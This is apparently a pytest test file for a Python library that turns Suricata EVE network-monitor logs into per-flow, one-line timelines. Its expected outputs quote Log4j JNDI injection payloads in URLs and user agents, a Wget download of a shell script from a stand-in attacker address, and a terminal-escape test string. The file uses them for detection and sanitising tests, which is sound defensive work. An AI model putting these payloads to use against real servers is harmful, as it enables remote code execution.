"""A timeline tells what happened, in order, in one harmless line an event."""

from __future__ import annotations

import io
import ipaddress
import json
import re
import unicodedata
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

import suricata_eve
from suricata_eve.analysis import by_flow, timeline
from suricata_eve.analysis.event_texts import TEXT_LIMIT, event_texts
from suricata_eve.analysis.timeline_texts import TEMPLATES
from suricata_eve.errors import EveTypeError, EveValueError, MissingColumnError
from suricata_eve.schema.event_types import EVENT_TYPES
from suricata_eve.terminal import printable

COLUMNS = {
    "timestamp": "timestamp[us, tz=UTC][pyarrow]",
    "after": "duration[us][pyarrow]",
    "flow_id": "int64[pyarrow]",
    "event_type": "string[pyarrow]",
    "client_ip": "string[pyarrow]",
    "client_port": "uint16[pyarrow]",
    "server_ip": "string[pyarrow]",
    "server_port": "uint16[pyarrow]",
    "direction": "string[pyarrow]",
    "text": "string[pyarrow]",
}
CLIENT, SERVER = "192.0.2.1", "2001:0db8:0000:0000:0000:0000:0000:0001"
FORWARD = {"src_ip": CLIENT, "src_port": 50000, "dest_ip": SERVER, "dest_port": 80}
BACK = {"src_ip": SERVER, "src_port": 80, "dest_ip": CLIENT, "dest_port": 50000}


RESPONSE_SIDE_ALERT = """\
alert to_server [1] HUNT Log4j JNDI lookup in HTTP User-Agent (Web Application Attack) sid 9000003
alert to_server [1] HUNT Command in base64 behind a Log4j tool path \
(Attempted Administrator Privilege Gain) sid 9000008
alert to_client [1] HUNT Java naming exception in HTTP response \
(Successful User Privilege Gain) sid 9000021
alert to_client [2] HUNT Server error status in HTTP response \
(access to a potentially vulnerable web application) sid 9000022
fileinfo to_client /app/login.do, 241 bytes, \
sha256 9cd7d3ded36b3eccc03946864e349f684d55689898ddb414b2438ee7648667b8
flow - TCP http closed (timeout) after 0.234 s, to server 6 packets 624 bytes, \
to client 4 packets 636 bytes, alerted
netflow to_server TCP http 6 packets 624 bytes in 0.234 s
netflow to_client TCP http 4 packets 636 bytes in 0.234 s
"""


def frame(*events: dict[str, Any], **options: Any) -> pd.DataFrame:
    """Read events, each a second after the one before, all of flow 7."""
    lines = []
    for number, given in enumerate(events):
        time = f"2022-01-01T00:00:{number:02}.000000+0000"
        lines.append(json.dumps({"timestamp": time, "flow_id": 7, "proto": "TCP"} | given))
    return suricata_eve.read_eve(pa.BufferReader("\n".join(lines).encode()), **options)


def text_of(event_type: str | None, **fields: Any) -> str:
    """Tell the text of one event, whose own object has these fields."""
    own = {event_type: fields} if event_type in EVENT_TYPES else fields
    other = {"event_type": "flow", "flow_id": 8}
    (text,) = timeline(frame({"event_type": event_type} | FORWARD | own, other), 7)["text"]
    return str(text)


def of(made: pd.DataFrame, planted: dict[str, Any]) -> pd.DataFrame:
    """Return the timeline of a planted flow."""
    ends = (made["src_port"] == planted["src_port"]) & (made["dest_port"] == planted["dest_port"])
    return timeline(made, made["event_type"].eq("flow") & ends)


def dtypes(told: pd.DataFrame) -> dict[str, str]:
    return {str(name): str(dtype) for name, dtype in told.dtypes.items()}


@pytest.fixture(params=["sample7", "sample8"])
def sample(request: pytest.FixtureRequest) -> pd.DataFrame:
    made: pd.DataFrame = request.getfixturevalue(request.param)
    return made


def test_a_flow_with_an_alert_on_its_response_tells_its_story(
    sample: pd.DataFrame, truth: dict[str, Any]
) -> None:
    planted = truth["special"]["response_side_alert"][0]

    told = of(sample, planted)

    assert dtypes(told) == COLUMNS
    story = list(zip(told["event_type"], told["direction"].fillna("-"), told["text"], strict=True))
    http = story.pop(2)
    assert http[:2] == ("http", "-")
    assert http[2].startswith(
        "GET 198.51.100.20/app/login.do -> 500, 241 bytes, text/html, agent ${jndi:ldap://203.0.1"
    )
    assert [" ".join(line) for line in story] == RESPONSE_SIDE_ALERT.splitlines()
    assert told["client_ip"].unique().tolist() == [planted["src_ip"]]
    assert told["server_port"].unique().tolist() == [8080]
    assert told["after"].iloc[0] == pd.Timedelta(0)
    assert (told["after"] == told["timestamp"] - told["timestamp"].iloc[0]).all()


def test_a_spray_and_a_keep_alive_flow_are_told_request_by_request(
    sample: pd.DataFrame, truth: dict[str, Any]
) -> None:
    planted = {flow["id"]: flow for flow in truth["log4j_flows"]}

    spray, alive = (of(sample, planted[name]) for name in ("L12", "L16"))

    (request,) = spray["text"][spray["event_type"] == "http"]
    assert "/solr/admin/cores?action=${jndi:ldap://203.0.113.77:1389/Basic/Command" in request
    assert request.count("…") == 2  # the URL and the agent
    requests = alive["text"][alive["event_type"] == "http"].tolist()
    assert len(requests) == planted["L16"]["transactions"]
    assert "${jndi:ldap://203.0.113.80:1389" in requests[1]
    assert "agent ${jndi:ldap://203.0.113.82:8089" in requests[2]


def test_a_callback_is_told_by_its_question_and_answer(
    sample: pd.DataFrame, truth: dict[str, Any]
) -> None:
    planted = truth["special"]["dns_callback_query"][0]

    told = of(sample, planted)

    dns = told[told["event_type"] == "dns"]
    assert dns["text"].tolist() == [
        f"query A {planted['rrname']}",
        f"answer A {planted['rrname']} -> {planted['rcode']}",
    ]
    assert dns["direction"].tolist() == ["to_server", "to_client"]
    assert dns["client_ip"].tolist() == [planted["src_ip"]] * 2


def test_a_download_is_told_with_the_hash_of_its_file(
    sample: pd.DataFrame, truth: dict[str, Any]
) -> None:
    planted = truth["special"]["shell_script_download"][0]

    told = timeline(sample, planted["src_ip"])

    assert told["client_ip"].unique().tolist() == [planted["src_ip"]]
    assert "GET 203.0.113.77/lh.sh -> 200, 170 bytes, text/x-sh, agent Wget/1.21.2" in set(
        told["text"]
    )
    assert told["text"][told["event_type"] == "fileinfo"].tolist() == [
        f"/lh.sh, 170 bytes, sha256 {planted['sha256']}"
    ]
    assert told["timestamp"].is_monotonic_increasing


def test_the_timeline_of_flows_holds_the_events_of_by_flow(sample: pd.DataFrame) -> None:
    flows = sample["flow_id"].drop_duplicates().iloc[::40]

    told = timeline(sample, flows)

    pd.testing.assert_index_equal(
        told.index.sort_values(), by_flow(sample, flows).index.sort_values()
    )
    assert told["timestamp"].is_monotonic_increasing


def test_one_id_does_and_so_do_a_mask_a_frame_and_a_generator(sample7: pd.DataFrame) -> None:
    mask = sample7["alert.signature_id"] == 9000021
    ids = sample7["flow_id"][mask].tolist()
    expected = timeline(sample7, ids)

    for given in (mask, mask.to_numpy(), sample7[mask], ids[0], iter(ids), np.array(ids)):
        pd.testing.assert_frame_equal(timeline(sample7, given), expected)


def test_a_client_is_found_whichever_way_the_packet_went() -> None:
    made = frame(
        {"event_type": "http", **FORWARD},
        {"event_type": "alert", "alert": {"signature": "x"}, "direction": "to_client", **BACK},
        {"event_type": "fileinfo", **BACK},
        {"event_type": "flow", **FORWARD},
        {"event_type": "ssh", "flow_id": 8, **BACK},
        {"event_type": "stats"},
    )

    assert timeline(made, CLIENT)["event_type"].tolist() == ["http", "alert", "fileinfo", "flow"]
    assert timeline(made, SERVER)["event_type"].tolist() == ["ssh"]
    assert timeline(made, [CLIENT, SERVER])["event_type"].tolist() == [
        *("http", "alert", "fileinfo", "flow", "ssh")
    ]


@pytest.mark.parametrize(
    "given",
    [
        "2001:db8::1",
        "2001:DB8:0::1",
        SERVER,
        ipaddress.ip_address("2001:db8::1"),
        ["2001:db8::1"],
        pd.Series(["2001:db8::1", None]),
        pd.Series(["2001:db8::1"], dtype="category"),
        pd.Series(["2001:db8::1"], dtype=pd.ArrowDtype(pa.string())),
        pd.Index(["2001:db8::1"]),
        {"2001:db8::1"},
    ],
)
def test_a_client_is_found_by_any_spelling(given: Any) -> None:
    full, short = ({"event_type": "http", **BACK, "src_ip": ip} for ip in (SERVER, "2001:db8::1"))

    assert len(timeline(frame(full, short), given)) == 2


def test_what_is_not_there_gives_an_empty_table_with_all_columns(sample7: pd.DataFrame) -> None:
    for told in (
        timeline(sample7, 1),
        timeline(sample7, []),
        timeline(sample7, "192.0.2.254"),
        timeline(sample7.iloc[:0], 1),
        timeline(sample7.iloc[:0], "192.0.2.1"),
        timeline(sample7[["event_type", "timestamp", "flow_id"]].iloc[:0], 1),
    ):
        assert dtypes(told) == COLUMNS
        assert len(told) == 0


def test_without_addresses_the_rest_is_told() -> None:
    made = frame({"event_type": "ssh", "ssh": {"client": {"software_version": "x"}}})

    told = timeline(made, 7)

    assert dtypes(told) == COLUMNS
    assert told["text"].tolist() == ["x"]
    assert told["client_ip"].isna().all()


@pytest.mark.parametrize(
    ("given", "error", "message"),
    [
        (None, EveTypeError, "needs flow IDs, a mask or a frame"),
        ("www.example.org", EveValueError, "'www.example.org' is not an IP address; name a client"),
        ("1234", EveValueError, "or a flow by its ID, which is an integer"),
        ("192.0.2.0/24", EveValueError, "'192.0.2.0/24' is not an IP address"),
        (["192.0.2.1", 7], EveTypeError, "addresses and what is none, such as 7"),
        (b"192.0.2.1", EveTypeError, "not bytes"),
        ({"flow_id": 7}, EveTypeError, "not dict"),
        (True, EveTypeError, "one boolean"),
        (7.5, EveValueError, "not whole"),
        (np.array([[7]]), EveTypeError, "one dimension"),
    ],
)
def test_what_tells_neither_flows_nor_clients_is_refused(
    given: Any, error: type[Exception], message: str
) -> None:
    with pytest.raises(error, match=re.escape(message)):
        timeline(frame({"event_type": "http", **FORWARD}), given)


@pytest.mark.parametrize(
    ("given", "column"),
    [
        (7, "event_type"),
        (7, "timestamp"),
        (7, "flow_id"),
        (CLIENT, "src_ip"),
        (CLIENT, "dest_ip"),
    ],
)
def test_what_a_timeline_cannot_do_without_is_named(given: Any, column: str) -> None:
    made = frame({"event_type": "http", **FORWARD}).drop(columns=column)

    with pytest.raises(MissingColumnError, match=rf"timeline\(\) needs the column '{column}'"):
        timeline(made, given)


def test_events_that_are_not_flat_are_refused() -> None:
    plain = pd.DataFrame(
        [
            {
                "event_type": "http",
                "timestamp": "2022-01-01T00:00:00Z",
                "flow_id": 7,
                "http": {"url": "/"},
            }
        ]
    )

    with pytest.raises(MissingColumnError, match=r"'http' is not flat: df.eve.normalize_types"):
        timeline(plain, 7)


def test_it_does_not_matter_what_the_frame_is_made_of(sample7: pd.DataFrame) -> None:
    """The order of its rows, columns that orient() made, dtypes, and labels that come twice."""
    ids = sample7["flow_id"].drop_duplicates().iloc[::60].tolist()
    mine = by_flow(sample7, ids)
    expected = timeline(mine, ids)
    assert len(expected) > 150

    for other in (mine.sample(frac=1, random_state=1), mine.eve.orient(), sample7):
        pd.testing.assert_frame_equal(timeline(other, ids), expected)

    lines = io.BytesIO()
    mine.sort_index().eve.to_json(lines)
    again = suricata_eve.read_eve(io.BytesIO(lines.getvalue()))
    nullable = suricata_eve.read_eve(io.BytesIO(lines.getvalue()), dtype_backend="numpy_nullable")
    pd.testing.assert_frame_equal(timeline(nullable, ids), timeline(again, ids))
    assert timeline(again, ids)["text"].tolist() == expected["text"].tolist()

    twice = timeline(mine.set_axis(np.zeros(len(mine), int)), ids)
    assert sorted(twice["text"]) == sorted(expected["text"])
    assert twice.index.tolist() == [0] * len(mine)


def test_frames_of_json_normalize_do() -> None:
    events = [
        {"event_type": "http", "http": {"url": "/a", "status": 200, "length": 1234}, **FORWARD},
        {"event_type": "flow", "flow": {"pkts_toserver": 5, "bytes_toserver": 2000}, **FORWARD},
    ]
    stamped = [
        {"timestamp": f"2022-01-01T00:00:0{n}Z", "flow_id": 7} | e for n, e in enumerate(events)
    ]

    told = timeline(pd.json_normalize(stamped), 7)

    assert told["text"].tolist() == [
        "/a -> 200, 1,234 bytes",
        "to server 5 packets 2,000 bytes",
    ]
    assert dtypes(told) == COLUMNS


def test_flow_ids_beyond_int64_stay_exact() -> None:
    made = frame({"event_type": "ssh", "flow_id": 2**64 - 1, **FORWARD})

    assert timeline(made, 2**64 - 1)["flow_id"].tolist() == [2**64 - 1]


# The words of types that the corpora hardly have, in all the shapes that releases give them.
TEXTS = [
    ("alert", {"signature_id": 5, "action": "blocked"}, "sid 5 blocked"),
    ("alert", {"severity": 2, "signature": "", "action": "allowed"}, "[2]"),
    ("dns", {"type": "query", "rrtype": "A", "rrname": "a.org"}, "query A a.org"),
    ("dns", {"type": "request", "queries": [{"rrtype": "A", "rrname": "a.org"}]}, "query A a.org"),
    ("dns", {"type": "answer", "rrtype": "A", "rrname": "a.org", "rdata": "::1"},
     "answer A a.org -> ::1"),
    ("dns", {"type": "answer", "rcode": "NOERROR", "rrname": "a.org"}, "answer a.org -> NOERROR"),
    ("dns", {"type": "response", "rcode": "SERVFAIL", "queries": []}, "answer -> SERVFAIL"),
    ("dns", {"type": "answer", "rcode": "NXDOMAIN", "rrname": "a", "grouped": {"CNAME": ["b"]}},
     "answer a -> NXDOMAIN b"),
    ("dns", {"type": "answer", "answers": [{"rdata": str(n)} for n in range(9)]},
     "answer -> 0, 1, 2 and 6 more"),
    ("dns", {"type": "answer", "rcode": "NOERROR", "answers": [{"soa": {}}, {"rdata": ""}]},
     "answer -> NOERROR"),
    ("http", {"http_method": "CONNECT", "hostname": "a", "url": "a:443"}, "CONNECT a:443"),
    ("http", {"http_method": "GET", "hostname": "a", "url": "http://b/c"}, "GET http://b/c"),
    ("http", {"http_method": "GET", "hostname": "a"}, "GET a"),
    ("http", {"url": "/x", "status": 301, "redirect": "/y"}, "/x -> 301 to /y"),
    ("http", {"http2": {"stream_id": 3}, "version": "2"}, "HTTP/2 stream 3"),
    ("fileinfo", {"filename": "/a", "md5": "m", "sha256": "s"}, "/a, sha256 s"),
    ("fileinfo", {"filename": "/a", "md5": "m", "state": "TRUNCATED", "stored": True},
     "/a TRUNCATED, md5 m, stored"),
    ("fileinfo", {"state": "CLOSED", "stored": False, "size": 1234567}, "1,234,567 bytes"),
    ("flow", {"start": "2022-01-01T00:00:00Z", "end": "2022-01-01T01:00:00.5Z", "alerted": False},
     "TCP after 3,600.5 s"),
    ("netflow", {"pkts": 1000, "end": "2022-01-01T00:00:00Z"}, "TCP 1,000 packets"),
    ("tls", {"version": "TLS 1.2", "sni": "a.org", "ja4": {"hash": "h"}},
     "TLS 1.2 to a.org, ja4 h"),
    ("tls", {"ja4": "h", "session_resumed": True}, "resumed, ja4 h"),
    ("smb", {"command": "SMB2_COMMAND_CREATE", "filename": "a", "status": "STATUS_SUCCESS"},
     "SMB2_COMMAND_CREATE a -> STATUS_SUCCESS"),
    ("smtp", {"mail_from": "<a>", "rcpt_to": ["<b>", "<c>"]}, "from <a> to <b>, <c>"),
    ("ftp", {"command": "USER", "command_data": "x", "completion_code": ["331"], "reply": ["y"]},
     "USER x -> 331 y"),
    ("mqtt", {"pingreq": {"qos": 0}}, "PINGREQ"),
    ("mqtt", {"subscribe": {"qos": 1, "topics": [{"topic": "a", "qos": 0}]}}, "SUBSCRIBE a"),
    ("ldap", {"request": {"operation": "bind_request", "bind_request": {"name": "cn=a"}},
              "responses": [{"operation": "bind_response"}]},
     "bind_request cn=a -> bind_response"),
    ("mdns", {"type": "response", "answers": [{"rrname": "a.local", "rdata": "1.2.3.4"}]},
     "response -> 1.2.3.4"),
    ("arp", {"opcode": "request", "src_ip": "192.0.2.1", "dest_ip": "192.0.2.2"},
     "request 192.0.2.1 -> 192.0.2.2"),
    ("pgsql", {"request": {"simple_query": "select 1"}, "response": {"data_rows": 1}},
     "select 1, 1 row"),
    ("stats", {"uptime": 5000, "decoder": {"pkts": 1000}}, "uptime 5,000 s, 1,000 packets"),
    # What no template tells: the first fields, whichever they are.
    ("dnp3", {"control": {"dir": True}, "src": 1}, "control.dir=true, src=1"),
    ("tls", {"serial": "04:A1"}, "serial=04:A1"),
    ("ssh", {}, "ssh"),
    ("flying_saucer", {"flying_saucer": {"crew": 4, "from": ["Mars"]}}, "crew=4, from=Mars"),
    ("flying_saucer", {"engine": {"message": "x"}}, "message=x"),
    ("flying_saucer", {}, "flying_saucer"),
    ("", {}, "event"),
    (None, {}, "event"),
]  # fmt: skip


@pytest.mark.parametrize(("event_type", "fields", "expected"), TEXTS)
def test_every_shape_has_its_words(
    event_type: str | None, fields: dict[str, Any], expected: str
) -> None:
    assert text_of(event_type, **fields) == expected


def test_every_event_type_has_a_template() -> None:
    assert sorted(TEMPLATES) == sorted(EVENT_TYPES)


def test_every_event_of_the_corpora_has_a_text(
    corpus_files: list[Path], sample7: pd.DataFrame, sample8: pd.DataFrame
) -> None:
    for made in (sample7, sample8, *map(suricata_eve.read_eve, corpus_files)):
        told = pd.Series(event_texts(made, np.arange(len(made))).to_pylist(), index=made.index)

        assert told.str.len().between(1, TEXT_LIMIT).all()
        assert not told.str.contains(r"[\x00-\x1f\x7f]").any()
        # The bare type where there is nothing else to tell: "smtp": {}, "mqtt": {}.
        for kind, bare in made[told == made["event_type"]].groupby("event_type"):
            own = bare.loc[:, bare.columns.str.startswith(f"{kind}.")]
            assert own.replace("", None).isna().all(axis=None)


HOSTILE = "a\nb\r\tc\x1b[2J\x00\x7f\u202etxt.exe\u200b\u2028\u0085\ue000e\u0301\U000e0001"


def test_hostile_text_stays_one_harmless_line() -> None:
    """Fields, names of fields, and names of types."""
    for text in (
        text_of("http", url=HOSTILE),
        text_of("tls", subject=HOSTILE, sni=HOSTILE),
        text_of("http", **{HOSTILE: HOSTILE}),
        text_of(HOSTILE),
        text_of("smtp", rcpt_to=[HOSTILE] * 5),
    ):
        unsafe = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp", "Mn", "Me"}
        assert not unsafe & set(map(unicodedata.category, text))
        assert r"a\nb\r\tc\x1b[2J\x00" in text
        assert r"\u202etxt.exe\u200b\u2028\x85\ue000é\U000e0001" in text


def test_escapes_are_those_of_the_terminal() -> None:
    assert text_of("sip", request_line=HOSTILE) == printable(HOSTILE)


def test_a_text_and_a_field_in_it_have_limits() -> None:
    long = text_of("http", url="/" + "x" * 100_000, hostname="a" * 101, status=200)

    assert long == "a" * 99 + "…" + "/" + "x" * 98 + "… -> 200"
    assert len(text_of("http", url="/" + "\x00" * 100, http_user_agent="a" * 90)) == TEXT_LIMIT
    assert text_of("smtp", rcpt_to=["b" * 99] * 9).endswith("b…")
    exact = text_of("sip", request_line="é" * 100)
    assert exact == "é" * 100


def test_any_number_of_unknown_types_is_told_at_once() -> None:
    made = frame(*({"event_type": f"type{n}", "what": n, **FORWARD} for n in range(50)))

    assert timeline(made, 7)["text"].tolist() == [f"what={n}" for n in range(50)]


def test_the_frame_stays_as_it_was(sample8: pd.DataFrame) -> None:
    before = sample8.copy()

    timeline(sample8, sample8["alert.signature_id"] == 9000021)

    pd.testing.assert_frame_equal(sample8, before)


@pytest.mark.parametrize("name", ["@timestamp", "@x", "a[]", "a[].b", "{a}", "a|b", "@md5", ""])
def test_a_column_may_have_any_name(name: str) -> None:
    """Also one that looks like a field of a template."""
    made = frame({"event_type": "ftp_data"}, {"event_type": "odd", "n": 1})
    made[name] = pd.Series(["x"] * 2, index=made.index, dtype=pd.ArrowDtype(pa.string()))

    shown = name.partition(".")[2] or name
    assert timeline(made, 7)["text"].tolist() == (
        ["ftp_data", "n=1"] if name == "@timestamp" else [f"{shown}=x", f"n=1, {shown}=x"]
    )


def test_a_type_that_begins_with_a_sign_has_its_own_fields() -> None:
    made = frame({"event_type": "@x", "@x": {"k": "v"}})

    assert timeline(made, 7)["text"].tolist() == ["k=v"]


@pytest.mark.parametrize(
    ("event_type", "fields", "expected"),
    [
        ("netflow", {"pkts": 1, "bytes": 1}, "TCP 1 packet 1 byte"),
        ("netflow", {"pkts": 0, "bytes": 1001}, "TCP 0 packets 1,001 bytes"),
        ("stats", {"decoder": {"pkts": 1}, "detect": {"alert": 2}}, "1 packet, 2 alerts"),
        ("netflow", {"app_proto": "unknown", "pkts": 1}, "TCP 1 packet"),
        ("flow", {"app_proto": "failed", "state": "new"}, "TCP new"),
    ],
)
def test_numbers_and_words_read_well(
    event_type: str, fields: dict[str, Any], expected: str
) -> None:
    own = {event_type: {key: value for key, value in fields.items() if key != "app_proto"}}
    app = {"app_proto": fields["app_proto"]} if "app_proto" in fields else {}

    (text,) = timeline(frame({"event_type": event_type, **FORWARD, **own, **app}), 7)["text"]

    assert text == expected


FLOW = {"event_type": "flow", **FORWARD}
UDP = {"proto": "UDP"}


@pytest.mark.parametrize("kind", ["bittorrent_dht", "ike", "krb5", "quic", "sip", "snmp"])
def test_a_message_over_udp_goes_the_way_of_its_packet(kind: str) -> None:
    made = frame({"event_type": kind, **UDP, **FORWARD}, {"event_type": kind, **UDP, **BACK}, FLOW)

    assert timeline(made, 7)["direction"].tolist()[:2] == ["to_server", "to_client"]


@pytest.mark.parametrize(
    ("kind", "field", "asking", "answering"),
    [
        ("krb5", "msg_type", "KRB_AS_REQ", "KRB_ERROR"),
        ("krb5", "msg_type", "KRB_TGS_REQ", "KRB_TGS_REP"),
        ("rdp", "event_type", "initial_request", "initial_response"),
        ("rdp", "event_type", "connect_request", "connect_response"),
    ],
)
def test_a_message_over_tcp_goes_the_way_that_its_kind_tells(
    kind: str, field: str, asking: str, answering: str
) -> None:
    """Its packet is that of the acknowledgement."""
    made = frame(
        {"event_type": kind, kind: {field: asking}, **BACK},
        {"event_type": kind, kind: {field: answering}, **FORWARD},
        {"event_type": kind, kind: {field: "other"}, **FORWARD},
        {"event_type": "sip", "sip": {"method": "INVITE"}, **BACK},
        FLOW,
    )

    directions = timeline(made, 7)["direction"].astype(object).fillna("-").tolist()

    assert directions == ["to_server", "to_client", "-", "-", "-"]


def test_messages_of_the_corpora_go_the_way_of_what_they_say(corpus_files: list[Path]) -> None:
    for path in corpus_files:
        made = suricata_eve.read_eve(path)
        for kind, name, asking in (
            ("snmp", "snmp.pdu_type", "trap_v1"),
            ("krb5", "krb5.msg_type", "KRB_AS_REQ"),
            ("quic", "quic.sni", None),
        ):
            rows = made["event_type"].eq(kind) & made[name].notna()
            if asking is not None:
                rows &= made[name].eq(asking)
            ways = timeline(made, rows).loc[made.index[rows], "direction"].dropna()
            assert len(ways)
            assert set(ways) == {"to_server"}


def test_tables_that_tell_the_client_do(sample7: pd.DataFrame, truth: dict[str, Any]) -> None:
    """Without the addresses of packets."""
    client = truth["special"]["shell_script_download"][0]["src_ip"]
    table = sample7.eve.http()
    assert "src_ip" not in table

    told = timeline(table, client)

    assert told.index.tolist() == table.index[table["client_ip"] == client].tolist()
    assert told["client_ip"].unique().tolist() == [client]
    assert told["direction"].isna().all()
    some = table["flow_id"].iloc[0]
    sides = ["client_ip", "client_port", "server_ip", "server_port"]
    pd.testing.assert_frame_equal(
        timeline(table, some)[sides],
        timeline(sample7, some).loc[lambda frame: frame["event_type"] == "http", sides],
    )
